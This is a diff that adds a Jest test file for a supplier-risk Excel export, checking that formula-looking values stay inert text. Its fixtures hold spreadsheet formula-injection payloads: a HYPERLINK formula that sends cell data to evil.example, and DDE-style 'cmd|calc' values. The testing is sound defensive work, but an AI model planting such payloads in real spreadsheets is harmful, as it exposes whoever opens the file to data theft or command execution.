@@ -1,0 +1,145 @@
+import { PassThrough } from 'node:stream';
+import { describe, expect, it } from '@jest/globals';
+import ExcelJS from 'exceljs';
+import { EXPORT_COLUMNS, writeSupplierExport, type ExportRow } from './supplier-export.js';
+import { makeAssessment, makeSupplier, RULE_SET_HASH, SUPPLIER_NAMES } from './testing/report-factories.js';
+
+const FORMULA_LIKE = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+  '+1',
+  '-2',
+  '@SUM(A1:A2)',
+  '\tx',
+  '\rcmd|calc',
+];
+
+// XML turns a carriage return into a line feed when the workbook is read (XML 1.0, end-of-line handling); Excel
+// reads it the same way. Everything else must come back byte for byte.
+function asRead(text: string | undefined): string | undefined {
+  return text?.replace(/\r\n?/g, '\n');
+}
+
+async function* rowsOf(rows: ExportRow[]): AsyncGenerator<ExportRow> {
+  for (const row of rows) {
+    // Like a database cursor: each row arrives in its own turn of the event loop.
+    yield await Promise.resolve(row);
+  }
+}
+
+async function exportToBuffer(rows: ExportRow[]): Promise<{ buffer: Buffer; written: number }> {
+  const out = new PassThrough();
+  const chunks: Buffer[] = [];
+  out.on('data', (chunk: Buffer) => chunks.push(chunk));
+  const finished = new Promise<void>((resolve) => out.on('end', resolve));
+  const summary = await writeSupplierExport(rowsOf(rows), out, {
+    generatedAt: '2025-01-20T14:05:00.000Z',
+    generatedBy: '=cmd|"/c calc"!A1',
+    ruleSetName: 'vigil-default',
+    ruleSetVersion: '2025.1',
+    ruleSetHash: RULE_SET_HASH,
+  });
+  await finished;
+  return { buffer: Buffer.concat(chunks), written: summary.rows };
+}
+
+async function readWorkbook(buffer: Buffer): Promise<ExcelJS.Workbook> {
+  const workbook = new ExcelJS.Workbook();
+  // exceljs declares its own Buffer type; a Node Buffer is what it reads.
+  await workbook.xlsx.load(buffer as unknown as Parameters<typeof workbook.xlsx.load>[0]);
+  return workbook;
+}
+
+function column(header: string): number {
+  return EXPORT_COLUMNS.findIndex((candidate) => candidate.header === header) + 1;
+}
+
+describe(writeSupplierExport.name, () => {
+  it('round-trips 1,000 suppliers with formula-looking values intact as text and no formula anywhere', async () => {
+    const rows: ExportRow[] = Array.from({ length: 1000 }, (_, index) => {
+      const hostile = FORMULA_LIKE[index % FORMULA_LIKE.length];
+      return {
+        supplierId: `id-${index}`,
+        supplier: makeSupplier({
+          name: index % 7 === 0 ? hostile : `${SUPPLIER_NAMES.polish} ${index}`,
+          externalRef: hostile,
+          city: hostile,
+        }),
+        assessment: makeAssessment({ recommendedActions: [hostile, 'Audit the supplier.'] }),
+      };
+    });
+
+    const { buffer, written } = await exportToBuffer(rows);
+
+    expect(written).toBe(1000);
+    const workbook = await readWorkbook(buffer);
+    const sheet = workbook.getWorksheet('Suppliers');
+    expect(sheet?.rowCount).toBe(1001);
+    rows.forEach((row, index) => {
+      const excelRow = sheet!.getRow(index + 2);
+      const ref = excelRow.getCell(column('Supplier ID'));
+      expect(ref.value).toBe(asRead(row.supplier.externalRef));
+      expect(ref.type).toBe(ExcelJS.ValueType.String);
+      expect(ref.numFmt).toBe('@');
+      expect(excelRow.getCell(column('Supplier name')).value).toBe(asRead(row.supplier.name));
+      expect(excelRow.getCell(column('City')).value).toBe(asRead(row.supplier.city));
+      expect(excelRow.getCell(column('Recommended actions')).value).toBe(
+        asRead(`${row.assessment!.recommendedActions[0]}\nAudit the supplier.`),
+      );
+    });
+    sheet!.eachRow((excelRow) =>
+      excelRow.eachCell((cell) => {
+        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+        expect(cell.formula).toBeUndefined();
+      }),
+    );
+  });
+
+  it('writes scores, tiers, red flags, main drivers and missing data for each supplier', async () => {
+    const assessment = makeAssessment();
+
+    const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);
+
+    const workbook = await readWorkbook(buffer);
+    const row = workbook.getWorksheet('Suppliers')!.getRow(2);
+    expect(row.getCell(column('Score')).value).toBe(60);
+    expect(row.getCell(column('Risk tier')).value).toBe('High');
+    expect(row.getCell(column('Red flags')).value).toBe(1);
+    expect(row.getCell(column('Red flag details')).value).toBe(
+      'ILO indicator reported: excessive overtime: Excessive overtime: yes (reported in the supplier file)',
+    );
+    expect(row.getCell(column('Main drivers')).value).toBe(
+      'Sector: garments and textiles (+15)\nCountry: US TIP tier (+12)\nGoods on the US DOL list (+10)',
+    );
+    expect(row.getCell(column('Country')).value).toBe('Vietnam');
+    expect(row.getCell(column('Data completeness')).value).toBe(0.82);
+    expect(row.getCell(column('Rule-set hash')).value).toBe(RULE_SET_HASH);
+    expect(row.getCell(column('Score')).numFmt).toBe('0.0');
+  });
+
+  it('marks suppliers that were never assessed instead of leaving the tier blank', async () => {
+    const { buffer } = await exportToBuffer([{ supplier: makeSupplier({ name: SUPPLIER_NAMES.bengali }) }]);
+
+    const workbook = await readWorkbook(buffer);
+    const row = workbook.getWorksheet('Suppliers')!.getRow(2);
+    expect(row.getCell(column('Supplier name')).value).toBe(SUPPLIER_NAMES.bengali);
+    expect(row.getCell(column('Risk tier')).value).toBe('Not assessed');
+    expect(row.getCell(column('Score')).value).toBeNull();
+  });
+
+  it('describes the export on a second sheet, neutralising the user name too', async () => {
+    const { buffer } = await exportToBuffer([]);
+
+    const workbook = await readWorkbook(buffer);
+    const about = workbook.getWorksheet('About this export')!;
+    const facts = new Map<string, unknown>();
+    about.eachRow((row, number) => {
+      if (number > 1) {
+        facts.set(row.getCell(1).text, row.getCell(2).value);
+      }
+    });
+    expect(facts.get('Rule-set hash')).toBe(RULE_SET_HASH);
+    expect(facts.get('Suppliers')).toBe('0');
+    expect(facts.get('Generated by')).toBe('=cmd|"/c calc"!A1');
+    expect(about.getRow(3).getCell(2).numFmt).toBe('@');
+  });
+});
